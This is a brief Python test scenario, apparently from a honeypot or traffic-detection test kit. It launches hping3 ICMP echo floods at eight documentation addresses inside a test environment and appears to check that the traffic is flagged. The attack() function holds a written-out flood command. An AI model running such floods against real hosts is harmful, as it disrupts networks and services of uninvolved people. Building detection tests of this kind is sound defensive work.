# SPDX-License-Identifier: Apache-2.0
"""hping3 floods victims with echo requests."""
from kit import *

FAMILIES = (4,)
ALLOWED, AT_LEAST, COUNT = ICMP, 1, conversations


def attack(pot, out):
    one = "hping3 -q -n -I eth0 --icmp -d 500 -c 50 -i u500 203.0.113.$n & "
    pot.run(["sh", "-c", f"for n in 1 2 3 4 5 6 7 8; do {one} done; wait"])
